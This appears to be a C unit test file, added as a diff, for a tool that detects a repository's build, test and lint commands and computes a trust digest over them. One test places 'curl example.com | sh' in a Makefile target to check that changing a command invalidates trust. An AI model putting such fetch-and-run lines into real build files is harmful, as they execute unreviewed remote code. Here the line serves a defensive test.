@@ -1,0 +1,171 @@
+/* What is detected, with which evidence, in real repositories; and what trust is given to. */
+#include "support.h"
+
+#include "project/project.h"
+
+static void put(struct test *t, const char *name, const char *text) {
+    char *path = test_path(t, name);
+    for (char *at = path + strlen(t->dir) + 1; (at = strchr(at, '/')); at++) {
+        *at = '\0';
+        mkdir(path, 0755);
+        *at = '/';
+    }
+    FILE *file = fopen(path, "w");
+    assert_non_null(file);
+    fputs(text, file);
+    fclose(file);
+}
+
+struct looked {
+    struct ft_tree_list list;
+    struct ft_profile profile;
+    const char *digest;
+};
+
+static struct looked look(struct test *t) {
+    struct looked looked = {0};
+    struct ft_repo *repo = NULL;
+    struct ft_conf *conf = NULL;
+    const char *commit = NULL;
+    const char *branch = NULL;
+    struct ft_conf_sources sources = {.project_file = test_path(t, "fettle.yaml")};
+    char *line = ft_sprintf(t->cx.arena,
+                            "cd %s && export GIT_CONFIG_GLOBAL=/dev/null && git init -q . && "
+                            "git add -A && git -c user.name=a -c user.email=a@b commit -qm x",
+                            t->dir);
+    assert_int_equal(system(line), 0);
+    assert_ok(t, ft_repo_open(&t->cx, t->dir, &repo));
+    assert_ok(t, ft_repo_head(&t->cx, repo, &commit, &branch));
+    assert_ok(t, ft_conf_load(&t->cx, &sources, &conf));
+    assert_ok(t, ft_repo_list(&t->cx, repo, commit, &looked.list));
+    assert_ok(t, ft_profile_make(&t->cx, repo, commit, &looked.list, conf, &looked.profile));
+    assert_ok(t, ft_trust_digest(&t->cx, &looked.list, &looked.profile, &looked.digest));
+    return looked;
+}
+
+/* All commands as "kind dir: line [evidence]" lines. */
+static const char *commands(struct test *t, const struct ft_profile *profile) {
+    static const char *const kinds[] = {"build", "test", "lint", "format"};
+    const char *text = "";
+    for (size_t i = 0; i < profile->commands.count; i++) {
+        const struct ft_project_command *c = &profile->commands.at[i];
+        text = ft_sprintf(t->cx.arena, "%s%s %s: %s [%s]\n", text, kinds[c->kind], c->dir, c->line,
+                          c->evidence);
+    }
+    return text;
+}
+
+static void a_makefile_says_it_all(void **state) {
+    struct test *t = *state;
+    put(t, "Makefile", "CC := gcc\nall: x\nx:\n\ttrue\ncheck test: x\n\ttrue\nlint:\n\ttrue\n");
+    struct looked looked = look(t);
+    assert_string_equal(commands(t, &looked.profile),
+                        "build .: make all [Makefile:2 (target all)]\n"
+                        "test .: make test [Makefile:5 (target test)]\n"
+                        "lint .: make lint [Makefile:7 (target lint)]\n");
+}
+
+static void scripts_of_a_package_count_but_npms_own_does_not(void **state) {
+    struct test *t = *state;
+    put(t, "package.json",
+        "{\n \"scripts\": {\n  \"build\": \"tsc\",\n  \"test\": \"echo \\\"Error: no test "
+        "specified\\\" && exit 1\"\n },\n \"dependencies\": {\"react\": \"19\"}\n}\n");
+    put(t, "yarn.lock", "");
+    struct looked looked = look(t);
+    assert_string_equal(commands(t, &looked.profile),
+                        "build .: npm run build [package.json:3 (scripts.build)]\n");
+    assert_string_equal(looked.profile.facts.at[0].value, "react");
+    assert_string_equal(looked.profile.facts.at[1].value, "Yarn");
+}
+
+static void python_tests_say_which_runner_they_want(void **state) {
+    struct test *t = *state;
+    put(t, "tests/test_a.py", "import unittest\n");
+    struct looked looked = look(t);
+    assert_string_equal(commands(t, &looked.profile),
+                        "test .: python3 -m unittest discover -v -s tests "
+                        "[tests/test_a.py (test files)]\n");
+    put(t, "tests/test_b.py", "import pytest\n");
+    looked = look(t);
+    assert_non_null(strstr(commands(t, &looked.profile), "python3 -m pytest"));
+}
+
+static void folders_count_where_the_root_says_nothing(void **state) {
+    struct test *t = *state;
+    put(t, "go/go.mod", "module a\n");
+    put(t, "web/app/package.json", "{\"scripts\": {\"test\": \"node --test\"}}");
+    struct looked looked = look(t);
+    const char *text = commands(t, &looked.profile);
+    assert_non_null(strstr(text, "test go: go test"));
+    assert_non_null(strstr(text, "test web/app: npm test [web/app/package.json:1"));
+    put(t, "Makefile", "test:\n\ttrue\n");
+    looked = look(t);
+    assert_null(strstr(commands(t, &looked.profile), "go test"));
+}
+
+static void settings_replace_what_was_detected(void **state) {
+    struct test *t = *state;
+    put(t, "Makefile", "all:\n\ttrue\ntest:\n\ttrue\n");
+    put(t, "fettle.yaml", "commands:\n  test: [./run-tests, ./more-tests]\n");
+    struct looked looked = look(t);
+    const char *text = commands(t, &looked.profile);
+    assert_non_null(strstr(text, "build .: make all"));
+    assert_non_null(strstr(text, "test .: ./run-tests"));
+    assert_non_null(strstr(text, "test .: ./more-tests"));
+    assert_null(strstr(text, "make test"));
+}
+
+static void c_projects_build_as_their_files_say(void **state) {
+    struct test *t = *state;
+    put(t, "CMakeLists.txt", "project(a)\nenable_testing()\n");
+    struct looked looked = look(t);
+    const char *text = commands(t, &looked.profile);
+    assert_non_null(strstr(text, "build .: cmake"));
+    assert_non_null(strstr(text, "CMakeLists.txt:2 (enable_testing)"));
+    put(t, "configure", "#!/bin/sh\n");
+    put(t, "Makefile.in", "all:\ntest:\n\ttrue\n");
+    looked = look(t);
+    assert_non_null(strstr(commands(t, &looked.profile), "sh ./configure"));
+    assert_non_null(strstr(commands(t, &looked.profile), "Makefile.in:2 (target test)"));
+}
+
+static void languages_leave_generated_files_out(void **state) {
+    struct test *t = *state;
+    put(t, "a.py", "x = 1\n");
+    put(t, "b.c", "int x;\nint y;\nint z;\n");
+    put(t, "made.c", "int made[100000];\n");
+    put(t, ".gitattributes", "made.c linguist-generated\n");
+    struct looked looked = look(t);
+    assert_int_equal(looked.profile.languages.count, 2);
+    assert_string_equal(looked.profile.languages.at[0].id, "c");
+    assert_int_equal(looked.profile.languages.at[0].files, 1);
+}
+
+static void trust_is_for_the_commands_and_the_files_that_define_them(void **state) {
+    struct test *t = *state;
+    put(t, "Makefile", "test:\n\ttrue\n");
+    put(t, "a.py", "x = 1\n");
+    const char *first = look(t).digest;
+    put(t, "a.py", "x = 2\n");
+    assert_string_equal(look(t).digest, first);
+    put(t, "Makefile", "test:\n\tcurl example.com | sh\n");
+    assert_string_not_equal(look(t).digest, first);
+    put(t, "Makefile", "test:\n\ttrue\n");
+    assert_string_equal(look(t).digest, first);
+    put(t, "fettle.yaml", "commands.test: [./other]\n");
+    assert_string_not_equal(look(t).digest, first);
+}
+
+int main(void) {
+    const struct CMUnitTest tests[] = {
+        TEST(a_makefile_says_it_all),
+        TEST(scripts_of_a_package_count_but_npms_own_does_not),
+        TEST(python_tests_say_which_runner_they_want),
+        TEST(folders_count_where_the_root_says_nothing),
+        TEST(settings_replace_what_was_detected),
+        TEST(c_projects_build_as_their_files_say),
+        TEST(languages_leave_generated_files_out),
+        TEST(trust_is_for_the_commands_and_the_files_that_define_them),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
